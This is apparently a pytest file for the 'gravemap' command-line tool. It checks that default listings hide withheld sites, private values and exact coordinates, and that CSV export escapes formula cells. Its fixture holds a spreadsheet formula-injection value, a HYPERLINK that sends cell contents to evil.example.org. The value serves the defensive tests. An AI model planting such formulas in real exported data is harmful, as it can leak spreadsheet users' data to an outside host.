"""`gravemap list` and `gravemap show`: default output is the public view (findings 6 and 7)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from gravemap.cli import main
from gravemap.store import dumps_collection

from conftest import make_collection, make_site

PRIVATE = "PRIVATE-SENTINEL-e41a"
ADDED_BY = "ADDEDBY-SENTINEL-77b2"
WITHHELD = "WITHHELD-SENTINEL-0f3d"
TRUE_LON, TRUE_LAT = 48.712345, 31.354321  # a synthetic recorded point near Ahvaz
# The recorded point in the number formats a listing could print it in.
POINT_SPELLINGS = ("48.712345", "31.354321", "48.71234", "31.35432", "48.7123", "31.3543")


def hostile_collection():
    full = make_site(
        name='=HYPERLINK("https://evil.example.org/?"&A1,"click")',
        private={"contact": PRIVATE},
        added={"at": "2026-01-01T00:00:00Z", "by": ADDED_BY},
        notes="+1 synthetic note",
    )
    city = make_site(
        "ir-ahvaz-01",
        name="@SUM(1+1) city-level site",
        city="Ahvaz",
        publish="city",
        location={
            "precision": "exact",
            "method": "manual",
            "query": f"{TRUE_LAT}, {TRUE_LON}",
            "geonameid": 144448,
            "note": "NOTE-SENTINEL by the wall",
        },
    )
    city["geometry"]["coordinates"] = [TRUE_LON, TRUE_LAT]
    withheld = make_site("ir-testville-03", name=WITHHELD, publish="withheld")
    return make_collection(full, city, withheld)


@pytest.fixture
def hostile(tmp_path):
    path = tmp_path / "sites.geojson"
    path.write_text(dumps_collection(hostile_collection()), encoding="utf-8")
    return path


def run(runner, data, *args):
    return runner.invoke(main, ["--data", str(data), *args])


@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv"])
def test_default_listing_has_no_withheld_site_private_value_or_city_point(runner, hostile, fmt):
    result = run(runner, hostile, "list", "--format", fmt)
    assert result.exit_code == 0, result.output
    for leak in (PRIVATE, ADDED_BY, WITHHELD, "ir-testville-03", "NOTE-SENTINEL", *POINT_SPELLINGS):
        assert leak not in result.stdout, leak
    assert "ir-ahvaz-01" in result.stdout


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_include_private_listing_gives_everything(runner, hostile, fmt):
    result = run(runner, hostile, "list", "--format", fmt, "--include-private")
    assert result.exit_code == 0, result.output
    assert WITHHELD in result.stdout and "48.712345" in result.stdout
    if fmt != "csv":
        assert PRIVATE in result.stdout and ADDED_BY in result.stdout


def test_listing_places_a_city_site_at_its_city_centre(runner, hostile):
    features = json.loads(run(runner, hostile, "list", "--format", "json").stdout)
    city = next(f for f in features if f["id"] == "ir-ahvaz-01")
    assert city["geometry"]["coordinates"] == [48.6842, 31.31901]  # GeoNames' Ahvaz
    assert city["properties"]["location"]["precision"] == "city"


@pytest.mark.parametrize("flag", [[], ["--include-private"]])
def test_list_csv_defuses_formula_cells_as_export_does(runner, hostile, flag):
    result = run(runner, hostile, "list", "--format", "csv", *flag)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    names = {row["id"]: row["name"] for row in rows}
    assert names["ir-synthetic-01"] == '\'=HYPERLINK("https://evil.example.org/?"&A1,"click")'
    assert names["ir-ahvaz-01"] == "'@SUM(1+1) city-level site"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_show_default_is_the_public_view(runner, hostile):
    result = run(runner, hostile, "show", "ir-ahvaz-01")
    assert result.exit_code == 0, result.output
    for leak in ("NOTE-SENTINEL", *POINT_SPELLINGS):
        assert leak not in result.stdout
    assert "  location:     31.31901, 48.6842 (precision city" in result.stdout
    shown = run(runner, hostile, "show", "ir-synthetic-01", "--format", "json").stdout
    assert PRIVATE not in shown and ADDED_BY not in shown


def test_show_include_private_shows_everything(runner, hostile):
    result = run(runner, hostile, "show", "ir-synthetic-01", "--include-private")
    assert PRIVATE in result.stdout and ADDED_BY in result.stdout
    result = run(runner, hostile, "show", "ir-ahvaz-01", "--include-private", "--format", "json")
    assert json.loads(result.stdout)["geometry"]["coordinates"] == [TRUE_LON, TRUE_LAT]


def test_show_a_withheld_site_says_how_to_see_it(runner, hostile):
    result = run(runner, hostile, "show", "ir-testville-03")
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: site 'ir-testville-03' is marked publish: withheld and left out of default "
        "output; add --include-private to show it\n"
    )
    assert WITHHELD not in result.stdout
    assert run(runner, hostile, "show", "ir-testville-03", "--include-private").exit_code == 0
    missing = run(runner, hostile, "show", "ir-nowhere-09")
    assert missing.exit_code == 1 and "no site with id 'ir-nowhere-09'" in missing.stderr
